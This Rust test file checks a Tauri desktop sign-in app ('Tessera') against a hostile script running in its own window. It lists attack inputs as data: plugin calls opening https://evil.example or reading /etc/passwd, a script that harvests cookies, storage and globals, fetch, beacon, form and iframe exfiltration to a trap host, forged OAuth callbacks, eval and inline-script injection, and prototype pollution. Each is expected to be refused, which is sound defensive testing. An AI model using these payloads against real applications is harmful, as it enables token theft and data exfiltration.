//! A page that turned hostile: script that runs in the app's own window, as after a hole in a library, and what
//! it cannot do. It cannot read a token, forge a callback, call what was not granted, leave the app's origin,
//! reach the network, or make code out of text.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test stops at the first surprise"
)]

use std::fs;

use anyhow::{Context as _, Result, ensure};
use lab::app::App;
use lab::pages::{ANN, Pages};
use lab::secrets::{Places, Secrets};
use lab::setting::{self, Setting};
use lab::trap::Trap;
use lab::{journey, keyring, wait};
use serde_json::{Value, json};
use tessera_sandbox::log::Endpoint;

/// What a download would bring, and how it would be called.
const SAVED: &str = "saved-by-script-of-the-page";

/// Whether the window shows a page of the app's own.
async fn is_at_home(app: &App<'_>) -> Result<()> {
    let at = app.page().current_url().await?;
    let own = at.scheme() == "tauri" && at.host_str() == Some("localhost") && at.port().is_none();
    ensure!(own, "the window shows {at}");
    Ok(())
}

/// Calls a command as any script in the page can, and gives back `{"value": …}` or `{"error": …}`.
async fn invoke(app: &App<'_>, command: &str, arguments: &Value) -> Result<Value> {
    app.script(&format!(
        "try {{
             return await window.__TAURI_INTERNALS__.invoke({}, {arguments});
         }} catch (error) {{
             throw typeof error === 'string' ? error : JSON.stringify(error);
         }}",
        json!(command)
    ))
    .await
}

/// What a command was refused with.
async fn refusal(app: &App<'_>, command: &str, arguments: &Value) -> Result<String> {
    let answer = invoke(app, command, arguments).await?;
    let error = answer["error"].as_str();
    ensure!(error.is_some(), "{command} {arguments} was not refused: {answer}");
    Ok(error.unwrap_or_default().to_owned())
}

/// The id of the one account.
async fn account(app: &App<'_>) -> Result<String> {
    app.click("nav-accounts").await?;
    app.attribute("account-card", "data-account").await
}

#[tokio::test(flavor = "multi_thread")]
async fn it_calls_nothing_that_was_not_granted() -> Result<()> {
    journey("hostile-commands", async |desktop| {
        let scene = Setting::ordinary(desktop).await?;
        let app = scene.open().await?;
        // What is granted works, so that a refusal below is one.
        let info = invoke(&app, "app_info", &json!({})).await?;
        ensure!(info["value"]["platform"] == "linux", "{info}");

        let forged = format!("{}:/callback?code=c&state=s", scene.build.scheme);
        for (command, arguments) in [
            ("plugin:event|emit", json!({ "event": "deep-link://new-url", "payload": [forged] })),
            (
                "plugin:event|emit_to",
                json!({ "target": { "kind": "Any" }, "event": "deep-link://new-url", "payload": [forged] }),
            ),
            (
                "plugin:event|listen",
                json!({ "event": "deep-link://new-url", "target": { "kind": "Any" }, "handler": 1 }),
            ),
            ("plugin:deep-link|get_current", json!({})),
            ("plugin:deep-link|register", json!({ "protocol": "https" })),
            ("plugin:deep-link|unregister", json!({ "protocol": scene.build.scheme })),
            ("plugin:shell|open", json!({ "path": "https://evil.example" })),
            (
                "plugin:shell|execute",
                json!({ "program": "tessera-sandbox", "args": [], "options": {} }),
            ),
            (
                "plugin:shell|spawn",
                json!({ "program": "binaries/tessera-sandbox", "args": [], "onEvent": "__CHANNEL__:1", "options": { "sidecar": true } }),
            ),
            ("plugin:shell|stdin_write", json!({ "pid": 1, "buffer": "x" })),
            ("plugin:shell|kill", json!({ "pid": 1 })),
            ("plugin:opener|open_url", json!({ "url": "https://evil.example" })),
            ("plugin:opener|open_path", json!({ "path": "/etc/passwd" })),
            ("plugin:clipboard-manager|read_text", json!({})),
            ("plugin:clipboard-manager|write_text", json!({ "text": "x" })),
            ("plugin:window|close", json!({ "label": "main" })),
            ("plugin:window|create", json!({ "options": { "label": "other" } })),
            ("plugin:window|set_title", json!({ "label": "main", "value": "Your bank" })),
            ("plugin:window|get_all_windows", json!({})),
            ("plugin:webview|create_webview_window", json!({ "options": { "label": "other", "url": "https://evil.example" } })),
            ("plugin:webview|internal_toggle_devtools", json!({})),
            ("plugin:webview|print", json!({})),
            ("plugin:app|version", json!({})),
            ("plugin:app|app_hide", json!({})),
            ("plugin:path|resolve_directory", json!({ "directory": 21 })),
            ("plugin:resources|close", json!({ "rid": 0 })),
            ("plugin:menu|new", json!({ "kind": "Menu", "handler": "__CHANNEL__:1" })),
            ("plugin:tray|new", json!({ "options": {}, "handler": "__CHANNEL__:1" })),
            ("plugin:image|from_path", json!({ "path": "/etc/passwd" })),
            ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
            ("plugin:http|fetch", json!({ "clientConfig": { "url": "https://evil.example" } })),
            ("plugin:process|exit", json!({ "code": 0 })),
            ("plugin:single-instance|x", json!({})),
            ("access_token", json!({ "account": "x" })),
            ("exit", json!({})),
        ] {
            let why = refusal(&app, command, &arguments).await?;
            ensure!(
                why.contains("not allowed") || why.contains("not found"),
                "{command} was not refused by its grant: {why}"
            );
        }
        is_at_home(&app).await?;
        let title = app.window().await?.title;
        ensure!(title.starts_with("Tessera"), "the title is now {title}");
        Ok(())
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn it_cannot_read_a_token() -> Result<()> {
    journey("hostile-tokens", async |desktop| {
        let scene = Setting::ordinary(desktop).await?;
        let app = scene.open().await?;
        scene.begin(&app).await?;
        let mut secrets = Secrets::default();
        for entry in keyring::entries(desktop)? {
            secrets.add(entry.secrets().into_iter().filter(|text| text.len() >= 40))?;
        }
        let waiting = everything(&app).await?;
        Pages::Sandbox.log_in_with(&scene.browser, ANN).await?;
        Pages::Sandbox.allow_in(&scene.browser).await?;
        setting::signed_in(&app, ANN).await?;
        scene.call_profile(&app, ANN).await?;
        for entry in keyring::entries(desktop)? {
            secrets.add(entry.secrets().into_iter().filter(|text| text.len() >= 40))?;
        }
        ensure!(secrets.len() >= 4, "verifier, state or nonce, both tokens: {}", secrets.len());

        let account = account(&app).await?;
        let mut texts = vec![
            ("while it waited".to_owned(), waiting.into_bytes()),
            ("signed in".to_owned(), everything(&app).await?.into_bytes()),
        ];
        let seen = String::from_utf8_lossy(&texts[1].1);
        ensure!(seen.contains(ANN.name), "script sees what the person sees");
        // Every answer that a granted command gives, also of an API that repeats what it was sent.
        let call = |path: &str| {
            let url = format!("{}/{path}", scene.sandbox.api());
            json!({ "request": { "account": account, "method": "GET", "url": url, "body": null } })
        };
        for (command, arguments) in [
            ("app_info", json!({})),
            ("account_detail", json!({ "id": account })),
            ("catalogue", json!({ "account": account })),
            ("call", call("profile")),
            ("call", call("echo")),
            (
                "sign_in",
                json!({ "request": {
                    "provider": setting::PROVIDER, "route": "loopback", "until_quit": false,
                    "account": account, "choose": false, "step_up": null
                } }),
            ),
        ] {
            let answer = invoke(&app, command, &arguments).await?;
            ensure!(answer.get("value").is_some(), "{command}: {answer}");
            texts.push((command.to_owned(), answer.to_string().into_bytes()));
        }
        let snapshot = app
            .script(
                "const events = [];
                 const id = window.__TAURI_INTERNALS__.transformCallback((event) => events.push(event));
                 const done = window.__TAURI_INTERNALS__.invoke('subscribe', { channel: `__CHANNEL__:${id}` });
                 await done;
                 await new Promise((resolve) => {
                     const look = () => events.length > 0 ? resolve() : requestAnimationFrame(look);
                     look();
                 });
                 return events;",
            )
            .await?;
        ensure!(snapshot.to_string().contains("snapshot"), "{snapshot}");
        texts.push(("subscribe".to_owned(), snapshot.to_string().into_bytes()));
        secrets.hunt(&Places {
            texts,
            ..Places::default()
        })
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn it_buries_nobody_in_pages() -> Result<()> {
    journey("hostile-pages", async |desktop| {
        let scene = Setting::ordinary(desktop).await?;
        let app = scene.open().await?;
        // An issuer of the page's choosing is no page to open.
        let evil = json!({ "input": {
            "id": "", "name": "x", "issuer": "http://127.0.0.1:9/", "client_id": "x", "apis": []
        } });
        let saved = invoke(&app, "save_provider", &evil).await?;
        let of = json!({ "of": saved["value"]["id"] });
        ensure!(
            refusal(&app, "open_provider_page", &of)
                .await?
                .contains("no_provider_page")
        );

        let tabs = scene.browser.tabs().await?;
        let request = json!({ "request": {
            "provider": setting::PROVIDER, "route": null, "until_quit": true, "account": null, "choose": false, "step_up": null
        } });
        let answers = app
            .script(&format!(
                "const codes = [];
                 for (let i = 0; i < 40; i++) {{
                     codes.push(await window.__TAURI_INTERNALS__.invoke('sign_in', {request})
                         .then(() => 'opened', (error) => error.code));
                 }}
                 return codes;"
            ))
            .await?;
        let codes: Vec<&str> = answers["value"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Value::as_str)
            .collect();
        ensure!(
            codes.len() == 40 && codes.last() == Some(&"too_many_pages"),
            "{codes:?}"
        );
        setting::waiting(&app).await?;
        let opened = scene.browser.tabs().await? - tabs;
        ensure!(opened <= 10, "{opened} pages were opened");
        app.close().await
    })
    .await
}

/// Everything that script finds lying about: the page, its storage, its cookies, its globals, its performance
/// entries.
async fn everything(app: &App<'_>) -> Result<String> {
    let found = app
        .script(
            "const found = [document.documentElement.outerHTML, document.cookie, location.href];
             for (const store of [localStorage, sessionStorage]) found.push(JSON.stringify({ ...store }));
             for (const { name } of await indexedDB.databases()) found.push(name);
             for (const entry of performance.getEntries()) found.push(JSON.stringify(entry));
             for (const name of Object.getOwnPropertyNames(window)) {
                 try {
                     const seen = new WeakSet();
                     found.push(name + JSON.stringify(window[name], (key, value) => {
                         if (typeof value !== 'object' || value === null) return value;
                         if (value instanceof Node || value === window || seen.has(value)) return undefined;
                         seen.add(value);
                         return value;
                     }));
                 } catch { found.push(name); }
             }
             return found.join('\\n');",
        )
        .await?;
    let text = found["value"].as_str().map(ToOwned::to_owned);
    ensure!(text.is_some(), "{found}");
    Ok(text.unwrap_or_default())
}

#[tokio::test(flavor = "multi_thread")]
async fn it_can_neither_forge_a_callback_nor_send_a_token_elsewhere() -> Result<()> {
    journey("hostile-callback", async |desktop| {
        let scene = Setting::ordinary(desktop).await?;
        let trap = Trap::set().await?;
        let app = scene.open().await?;
        scene.sign_in(&app, ANN).await?;
        let account = account(&app).await?;
        let spent = scene.codes_spent();

        // The attempt's id is no secret; its state is, and without it nothing is the answer.
        setting::begin(&app, setting::PROVIDER).await?;
        let attempt = app
            .script(&format!(
                "const attempt = await window.__TAURI_INTERNALS__.invoke('sign_in', {});
                 return attempt;",
                json!({ "request": {
                    "provider": setting::PROVIDER, "route": null, "until_quit": false,
                    "account": null, "choose": false, "step_up": null
                } })
            ))
            .await?;
        let id = attempt["value"]["id"].as_str().expect("an attempt").to_owned();
        setting::waiting(&app).await?;
        // Both pages are open in the browser, and neither is the one that is waited for below.
        for _ in 0..2 {
            scene.browser.new_page(scene.sandbox.issuer()).await?;
        }
        let scheme = scene.build.scheme;
        for text in [
            format!("{scheme}:/callback?code=forged-code-forged-code&state="),
            format!("{scheme}:/callback?code=forged-code-forged-code&state=forged-state-forged-state"),
            format!("{scheme}:/callback?code=forged-code-forged-code"),
            format!("{scheme}:/callback?error=access_denied&state=forged-state-forged-state"),
            "http://127.0.0.1:1/callback?code=forged-code-forged-code&state=x".to_owned(),
        ] {
            refusal(&app, "paste_callback", &json!({ "id": id, "text": text })).await?;
        }
        setting::waiting(&app).await?;
        ensure!(scene.codes_spent() == spent, "no token request was spent on a forged callback");

        let call = |url: &str| json!({ "request": { "account": account, "method": "GET", "url": url, "body": null } });
        for url in [
            trap.origin.clone(),
            format!("{}/profile", trap.origin),
            trap.origin.replace("127.0.0.1", "localhost"),
            format!("{}@{}/", scene.sandbox.api(), trap.origin.trim_start_matches("http://")),
            format!("{}.evil.example/", scene.sandbox.api()),
            "file:///etc/passwd".to_owned(),
            "https://evil.example/".to_owned(),
            "javascript:1".to_owned(),
        ] {
            refusal(&app, "call", &call(&url)).await?;
        }
        // Nor can it allow an address by itself: the person is asked in a window that the page has no part in, one
        // time at a time.
        for id in [setting::PROVIDER, "", "google"] {
            let input = json!({ "input": {
                "id": id, "name": setting::PROVIDER, "issuer": scene.sandbox.issuer(),
                "client_id": "tessera-desktop", "apis": [scene.sandbox.api(), trap.origin]
            } });
            app.script(&format!(
                "window.saved = null;
                 window.__TAURI_INTERNALS__.invoke('save_provider', {input}).then(
                     () => window.saved = 'saved', (error) => window.saved = error.code);"
            ))
            .await?;
            let question = app.question().await?;
            ensure!(refusal(&app, "save_provider", &input).await?.contains("already_asking"));
            refusal(&app, "call", &call(&trap.origin)).await?;
            let windows = desktop.windows_of(app.pid()?);
            ensure!(windows.len() == 2, "{windows:?}");
            desktop.press("Escape")?;
            app.answered(&question).await?;
            wait::until_true("the refusal", wait::STEP, async || {
                let saved = app.script("return window.saved").await?;
                ensure!(saved["value"] != "saved", "nobody allowed it");
                Ok(saved["value"] == "api_not_allowed")
            })
            .await?;
            refusal(&app, "call", &call(&trap.origin)).await?;
        }
        // What a stray key presses is no yes either.
        let input = json!({ "input": {
            "id": setting::PROVIDER, "name": "", "issuer": scene.sandbox.issuer(),
            "client_id": "tessera-desktop", "apis": [trap.origin]
        } });
        app.script(&format!("window.__TAURI_INTERNALS__.invoke('save_provider', {input}).catch(() => {{}});"))
            .await?;
        let question = app.question().await?;
        desktop.press("Return")?;
        app.answered(&question).await?;
        let file = fs::read_to_string(desktop.tessera().join("providers.toml"))?;
        ensure!(!file.contains(&trap.origin), "{file}");
        app.click("cancel-sign-in").await?;
        scene.begin(&app).await?;
        // With an account here, the provider is asked to let her choose.
        Pages::Sandbox.choose_same_in(&scene.browser).await?;
        Pages::Sandbox.allow_in(&scene.browser).await?;
        setting::signed_in(&app, ANN).await?;
        refusal(&app, "call", &call(&trap.origin)).await?;

        for of in ["file:///etc/passwd", "https://evil.example", "../x"] {
            refusal(&app, "open_provider_page", &json!({ "of": of })).await?;
        }
        let tokens = scene.asked(Endpoint::Token).len();
        ensure!(tokens == spent + 1, "{tokens} token requests");
        ensure!(trap.caught().is_empty(), "{:?}", trap.caught());
        Ok(())
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn it_can_neither_leave_nor_reach_the_network_nor_run_text() -> Result<()> {
    journey("hostile-origin", async |desktop| {
        let scene = Setting::ordinary(desktop).await?;
        let trap = Trap::set().await?;
        let app = scene.open().await?;
        let tabs = scene.browser.tabs().await?;
        let url = json!(trap.origin);
        fs::create_dir(desktop.home().join("Downloads"))?;
        fs::write(
            desktop.config().join("user-dirs.dirs"),
            "XDG_DOWNLOAD_DIR=\"$HOME/Downloads\"\n",
        )?;

        // Each is tried in the page that the ones before it left, which must still be the app's own.
        for attack in [
            format!("await fetch({url})"),
            format!("await fetch({url}, {{ mode: 'no-cors' }})"),
            format!("await fetch({url}, {{ method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }})"),
            format!(
                "await new Promise((yes, no) => {{
                     const request = new XMLHttpRequest();
                     request.onload = yes; request.onerror = () => no('refused');
                     request.open('GET', {url}); request.send();
                 }})"
            ),
            format!(
                "await new Promise((yes, no) => {{
                     const socket = new WebSocket({}); socket.onopen = yes; socket.onerror = () => no('refused');
                 }})",
                json!(trap.origin.replace("http", "ws"))
            ),
            format!(
                "await new Promise((yes, no) => {{
                     const source = new EventSource({url}); source.onopen = yes; source.onerror = () => no('refused');
                 }})"
            ),
            loads("img", "src", &trap.origin),
            loads("script", "src", &trap.origin),
            loads_link("stylesheet", &trap.origin),
            loads("video", "src", &trap.origin),
            format!("await import({url})"),
            format!("new Worker({url})"),
            "await new Promise((yes, no) => {
                 const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
                 const worker = new Worker(blob); worker.onmessage = yes; worker.onerror = () => no('refused');
             })"
            .to_owned(),
            "eval('1')".to_owned(),
            "new Function('return 1')()".to_owned(),
            "window.ran = false; const s = document.createElement('script'); s.textContent = 'window.ran = true';
             document.head.append(s); if (!window.ran) throw 'refused'"
                .to_owned(),
            "window.ran = false; document.body.insertAdjacentHTML('beforeend', '<i id=x onclick=\"window.ran = true\"></i>');
             document.getElementById('x').click(); if (!window.ran) throw 'refused'"
                .to_owned(),
            "window.ran = false; const a = document.createElement('a'); a.href = 'javascript:window.ran = true';
             document.body.append(a); a.click(); await new Promise(requestAnimationFrame); if (!window.ran) throw 'refused'"
                .to_owned(),
            "Object.prototype.polluted = 1; if (({}).polluted !== 1) throw 'refused'".to_owned(),
        ] {
            let answer = app.script(&format!("{attack}; return 'done'")).await?;
            ensure!(answer.get("error").is_some(), "{attack} was not refused: {answer}");
        }
        // Script given to a timer as text is dropped without a word.
        let answer = app
            .script(
                "window.ran = false; setTimeout('window.ran = true');
                 await new Promise((resolve) => setTimeout(resolve)); await new Promise(requestAnimationFrame);
                 return window.ran;",
            )
            .await?;
        ensure!(answer["value"] == false, "{answer}");

        // Ways out of the page, each taken at a click of the person, which opens more doors than script has by
        // itself. What they do shows in where the page is and in who came to the trap.
        for way in [
            format!("navigator.sendBeacon({url}, 'x')"),
            format!("location.href = {url}"),
            format!("location.assign({url})"),
            format!("location.replace({url})"),
            "location.href = 'file:///etc/passwd'".to_owned(),
            "location.href = 'data:text/html,<h1>x</h1>'".to_owned(),
            "location.href = 'about:blank'".to_owned(),
            "location.href = 'https://evil.example/'".to_owned(),
            format!("location.href = '{}:/callback?code=forged&state=forged'", scene.build.scheme),
            "location.href = 'tauri://elsewhere/'".to_owned(),
            format!("window.open({url})"),
            format!("window.open({url}, '_self')"),
            format!("window.open({url}, '_blank', 'noopener')"),
            "window.open('about:blank')".to_owned(),
            element("iframe", "src", &trap.origin, ""),
            element("object", "data", &trap.origin, ""),
            element("embed", "src", &trap.origin, ""),
            element("a", "href", &trap.origin, "made.click()"),
            element("a", "href", &trap.origin, "made.target = '_blank'; made.click()"),
            element("a", "href", &trap.origin, "made.download = 'x'; made.click()"),
            element("a", "href", "/index.html", &format!("made.download = '{SAVED}'; made.click()")),
            element("a", "href", &format!("data:text/plain,{SAVED}"), "made.download = 'x'; made.click()"),
            format!(
                "const made = document.createElement('a'); made.download = 'x';
                 made.href = URL.createObjectURL(new Blob(['{SAVED}'])); document.body.append(made); made.click()"
            ),
            element("a", "href", "#", &format!("made.ping = {url}; made.click()")),
            element("form", "action", &trap.origin, "made.method = 'post'; made.submit()"),
            element("form", "action", &trap.origin, "made.target = '_blank'; made.submit()"),
            element("base", "href", &trap.origin, "fetch('x').catch(() => {})"),
            element("meta", "content", &format!("0;url={}", trap.origin), "made.httpEquiv = 'refresh'"),
            element("link", "href", &trap.origin, "made.rel = 'prefetch'"),
            element("link", "href", &trap.origin, "made.rel = 'preload'; made.as = 'fetch'"),
            element("link", "href", &trap.origin, "made.rel = 'dns-prefetch'"),
        ] {
            at_a_click(&app, &way).await?;
            // Two turns of the page's own loop: whatever was going to begin has begun, and a page that left is
            // somewhere else.
            app.script(
                "await new Promise(requestAnimationFrame); await new Promise(requestAnimationFrame); return null",
            )
            .await?;
            is_at_home(&app).await.with_context(|| way.clone())?;
            let windows = desktop.windows_of(app.pid()?).len();
            ensure!(windows == 1, "{way} opened a window: {windows}");
            ensure!(app.page().windows().await?.len() == 1, "{way} opened a page");
        }
        // The app is itself after all that, and nothing went out: not to the trap, not to the browser, not to disk.
        app.page().refresh().await?;
        app.find("screen-sign-in").await?;
        ensure!(trap.caught().is_empty(), "{:?}", trap.caught());
        ensure!(scene.browser.tabs().await? == tabs, "the person's browser was opened");
        // The trap does catch whoever comes.
        scene.browser.page().goto(&trap.origin).await?;
        ensure!(!trap.caught().is_empty(), "the trap is not set");
        let mut saved = Secrets::default();
        saved.add([SAVED])?;
        saved.hunt(&Places {
            folders: vec![desktop.base().to_owned()],
            ..Places::default()
        })?;
        Ok(())
    })
    .await
}

/// Has script run at a click on something that covers the whole page.
async fn at_a_click(app: &App<'_>, script: &str) -> Result<()> {
    app.script(&format!(
        "const bait = document.createElement('button');
         bait.dataset.testid = 'bait';
         Object.assign(bait.style, {{ position: 'fixed', inset: 0, zIndex: 1000 }});
         bait.addEventListener('click', () => {{ bait.remove(); {script} }});
         document.body.append(bait);"
    ))
    .await?;
    app.click("bait").await
}

/// Script that makes an element with an attribute, and then does something with it as `made`.
fn element(tag: &str, attribute: &str, value: &str, then: &str) -> String {
    format!(
        "const made = document.createElement('{tag}'); made.setAttribute('{attribute}', {}); \
         document.body.append(made); {then}",
        json!(value)
    )
}

/// Script that waits until an element has loaded what it names, or could not.
fn loads(tag: &str, attribute: &str, value: &str) -> String {
    format!(
        "await new Promise((yes, no) => {{ {} }})",
        element(
            tag,
            attribute,
            value,
            "made.onload = made.onloadeddata = yes; made.onerror = () => no('refused'); made.load?.()"
        )
    )
}

fn loads_link(relation: &str, value: &str) -> String {
    loads("link", "href", value).replace(
        "made.setAttribute(",
        &format!("made.rel = '{relation}'; made.setAttribute("),
    )
}
